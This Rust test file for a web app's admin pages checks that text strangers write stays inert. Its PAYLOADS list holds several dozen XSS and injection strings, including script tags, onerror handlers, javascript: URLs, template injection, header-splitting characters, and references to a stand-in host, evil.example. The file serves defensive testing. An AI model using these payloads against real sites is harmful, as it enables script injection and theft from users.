//! What strangers write stays text on every page: read as a browser reads it, each page has the same elements as with plain words.

use std::collections::{BTreeMap, BTreeSet};

use html5gum::emitters::default::DefaultEmitter;
use html5gum::{Token, Tokenizer};
use hub::http::shown_text::{MAX_CHARS, shown};
use hub::types::role::Role;
use rocket::http::{Method, RawStr};
use serde_json::json;

use crate::answer::{Answer, session_of};
use crate::browsing::Browser;
use crate::stage::{PASSWORD, Stage};

/// What a browser makes of a page.
struct Parsed {
    /// Each element with the names of its attributes; sorted, for a list may stand in the order of what was written.
    elements: Vec<String>,
    /// Every text and every attribute's value.
    texts: BTreeSet<String>,
    /// Attributes that a browser would follow, load or run.
    active: Vec<(String, String)>,
}

fn parse(page: &str) -> Parsed {
    let mut emitter = DefaultEmitter::default();
    // Within a title, a text area or a script other rules hold.
    emitter.naively_switch_states(true);
    let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).expect("UTF-8");
    let mut parsed = Parsed {
        elements: Vec::new(),
        texts: BTreeSet::new(),
        active: Vec::new(),
    };
    for token in Tokenizer::new_with_emitter(page, emitter) {
        match token.expect("a text is always readable") {
            Token::StartTag(tag) => {
                let mut element = text(&tag.name);
                for (name, value) in &tag.attributes {
                    let (name, value) = (text(name), text(value));
                    element.push(' ');
                    element.push_str(&name);
                    let loads = [
                        "href",
                        "src",
                        "action",
                        "formaction",
                        "srcdoc",
                        "data",
                        "xlink:href",
                        "style",
                    ];
                    if loads.contains(&name.as_str()) || name.starts_with("on") {
                        parsed.active.push((name, value.clone()));
                    }
                    parsed.texts.insert(value.trim().to_owned());
                }
                parsed.elements.push(element);
            }
            Token::String(value) => {
                parsed.texts.insert(text(&value).trim().to_owned());
            }
            Token::Comment(value) => parsed.elements.push(format!("comment {}", text(&value))),
            Token::Error(error) => parsed.elements.push(format!("error {:?}", error.value)),
            Token::EndTag(_) | Token::Doctype(_) => {}
        }
    }
    parsed.elements.sort_unstable();
    parsed
}

/// Nothing on the page runs, and everything that it names is the Hub's own.
#[track_caller]
fn is_harmless(page: &Answer, name: &str) {
    for (attribute, value) in parse(&page.body).active {
        let is_own =
            value.starts_with(['#', '?']) || value.starts_with('/') && !value.starts_with("//");
        let is_address = matches!(attribute.as_str(), "href" | "src" | "action");
        assert!(is_address && is_own, "{name}: {attribute}={value}");
    }
    let policy = page.header("Content-Security-Policy").expect("a policy");
    assert!(policy.contains("default-src 'none'") && !policy.contains("unsafe"));
    assert_eq!(page.header("X-Content-Type-Options"), Some("nosniff"));
}

const PAYLOADS: [&str; 46] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x/>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "x\" autofocus onfocus=alert(1) x=\"",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7 * 7 }}{% include \"sign_in.html\" %}${7*7}<%= 7*7 %>",
    "javascript:alert(1)",
    "<\u{202e}script>\u{200b}alert(1)\0\u{1b}[31m\r\nSet-Cookie: a=b",
];

/// All of them, as many in one text as a page shows of one.
fn texts() -> Vec<String> {
    let mut texts = vec![String::new()];
    for payload in PAYLOADS {
        let last = texts.last().map(|text| format!("{text}{payload}"));
        let longer = last.filter(|text| shown(text).chars().count() < MAX_CHARS);
        match (longer, texts.last_mut()) {
            (Some(longer), Some(last)) => *last = longer,
            _ => texts.push(payload.to_owned()),
        }
    }
    texts
}

/// A Hub with `root`, who looks, and `alice`, whose every text a stranger wrote.
async fn stage() -> (Stage, String) {
    let stage = Stage::new().await;
    stage.register_as("root", Role::SuperAdmin).await;
    let pair = stage.register("alice").await;
    stage.rotate(&pair.refresh).await;
    let session = session_of(&pair.access);
    stage.login_with("alice", "wrong horse 9").await;
    (stage, session)
}

/// Everything that a client or an older version could have put into the database.
fn plant(stage: &Stage, text: &str) {
    let connection = stage.stranger();
    for sql in [
        "UPDATE users SET username = $1, username_key = lower($1), email = $1, email_key = lower($1), bio = $1, website_url = $1, profile_photo_url = $1, premium_tier = $1 WHERE id = 2",
        "UPDATE user_agents SET text = $1 || id WHERE id > 0",
        "UPDATE user_agents SET text = $1 WHERE id = (SELECT agent FROM sessions WHERE user_id = 2)",
        "UPDATE audit SET actor = $1, target = $1, address = $1, detail = $1, request_id = $1 WHERE id > 4",
    ] {
        let done = connection.execute(sql, [text]);
        done.expect(sql);
    }
}

#[rocket::async_test]
async fn a_page_has_the_same_elements_whatever_strangers_wrote_and_shows_it_as_they_wrote_it() {
    let (stage, session) = stage().await;
    stage.sql("DROP TRIGGER audit_refuses_update");
    let root = Browser::of(&stage, "root").await;
    let session_page = format!("/admin/sessions/{session}");
    let revoke = format!("{session_page}/revoke");
    let pages = [
        "/admin/sessions",
        &session_page,
        "/admin/users/2",
        "/admin/audit",
        &revoke,
        "/admin/sessions/revoke?which=all",
        "/admin/users",
        "/admin/users/2/tier",
        "/admin/users/2/delete",
    ];
    plant(&stage, "plain");
    let mut plain = BTreeMap::new();
    for path in pages {
        plain.insert(path, parse(&root.get(path).await.body).elements);
    }
    for payload in &texts() {
        plant(&stage, payload);
        for path in pages {
            let page = root.get(path).await;
            let name = format!("{path} with {payload}");
            assert_eq!(page.status, 200, "{name}");
            is_harmless(&page, &name);
            let parsed = parse(&page.body);
            assert_eq!(parsed.elements, plain[path], "{name}");
            let expected = shown(payload);
            let is_shown = parsed.texts.iter().any(|text| text.contains(&expected));
            assert!(is_shown, "{name}: {:?}", parsed.texts);
        }
    }
}

#[rocket::async_test]
async fn what_is_typed_comes_back_as_it_was_typed_and_adds_no_element() {
    let (stage, _) = stage().await;
    let root = Browser::of(&stage, "root").await;
    let alice = Browser::of(&stage, "alice").await;
    let visitor = Browser::new(&stage);
    for payload in texts() {
        let payload = payload.as_str();
        let encoded = RawStr::new(payload).percent_encode();
        let mut pages = Vec::new();
        for path in [
            "/admin/sessions?q=",
            "/admin/users?q=",
            "/admin/users?role=",
            "/admin/audit?user=",
            "/admin/audit?from=",
            "/admin/audit?action=",
            "/login?next=",
            "/admin/sudo?next=",
            "/docs?q=",
            "/nowhere/",
        ] {
            let path = format!("{path}{encoded}");
            pages.push((path.clone(), root.get(&path).await));
        }
        visitor.get("/login").await;
        let fields = [("username", payload), ("password", "x"), ("next", payload)];
        pages.push((
            "POST /login".to_owned(),
            visitor.post("/login", &fields).await,
        ));
        alice.get("/account").await;
        let fields = [
            ("email", payload),
            ("bio", payload),
            ("website_url", payload),
        ];
        let saved = alice.post("/account/profile", &fields).await;
        assert_eq!(saved.status, 422, "{payload}");
        assert!(
            parse(&saved.body).texts.contains(&as_read(payload)),
            "{payload}"
        );
        pages.push(("POST /account/profile".to_owned(), saved));
        for (name, page) in pages {
            let name = format!("{name} with {payload}");
            assert!(page.status < 500, "{name}");
            if page.status == 303 {
                continue;
            }
            is_harmless(&page, &name);
            let elements = parse(&page.body).elements;
            let unknown: Vec<_> = elements
                .iter()
                .filter(|element| {
                    let tag = element.split(' ').next().unwrap_or_default();
                    !OWN_TAGS.contains(&tag) && !OF_ITS_OWN_TEXT.contains(&element.as_str())
                })
                .collect();
            assert!(unknown.is_empty(), "{name}: {unknown:?}");
            let scripts = elements
                .iter()
                .filter(|element| element.starts_with("script"));
            assert_eq!(scripts.count(), 1, "{name}");
        }
    }
}

/// What a browser reads of it in an attribute.
fn as_read(text: &str) -> String {
    text.trim().replace("\r\n", "\n").replace('\0', "\u{fffd}")
}

/// What a browser minds about a field that its own person filled with such characters, and reads as signs without a meaning.
const OF_ITS_OWN_TEXT: [&str; 2] = [
    "error ControlCharacterInInputStream",
    "error UnexpectedNullCharacter",
];

/// The elements that our templates are made of.
const OWN_TAGS: [&str; 55] = [
    "html", "head", "meta", "title", "link", "script", "body", "a", "header", "nav", "main",
    "footer", "h1", "h2", "h3", "p", "div", "span", "section", "form", "label", "input", "button",
    "select", "option", "textarea", "fieldset", "legend", "ul", "ol", "li", "dl", "dt", "dd",
    "table", "caption", "thead", "tbody", "tr", "th", "td", "svg", "path", "use", "time", "code",
    "strong", "bdi", "details", "summary", "img", "b", "small", "br", "optgroup",
];

#[rocket::async_test]
async fn an_address_that_a_proxy_passes_on_is_an_address_or_nothing() {
    let everybody = "0.0.0.0/0,::/0";
    let settings = [
        ("trusted_proxies", "203.0.113.7"),
        ("throttle_exempt", everybody),
    ];
    let stage = Stage::with(&settings).await;
    stage.register_as("root", Role::SuperAdmin).await;
    let body = json!({"username": "root", "password": PASSWORD}).to_string();
    for payload in PAYLOADS {
        let line: String = payload
            .chars()
            .filter(|letter| !letter.is_control())
            .collect();
        for header in [
            "X-Forwarded-For",
            "Forwarded",
            "X-Real-IP",
            "X-Forwarded-Host",
            "Host",
            "User-Agent",
        ] {
            let call = stage.request(Method::Post, "/api/auth/login");
            let answer = call.header(header, &line).json(&body).send().await;
            assert!(matches!(answer.status, 200 | 400 | 421), "{header}: {line}");
            assert!(!answer.body.contains(&line), "{header}: {line}");
        }
    }
    let addresses = stage.number(
        "SELECT count(*) FROM sessions WHERE address <> '203.0.113.7' OR first_address <> '203.0.113.7'",
    );
    assert_eq!(addresses, 0);
    assert_eq!(
        stage.number("SELECT count(*) FROM audit WHERE address <> '203.0.113.7'"),
        0
    );
}
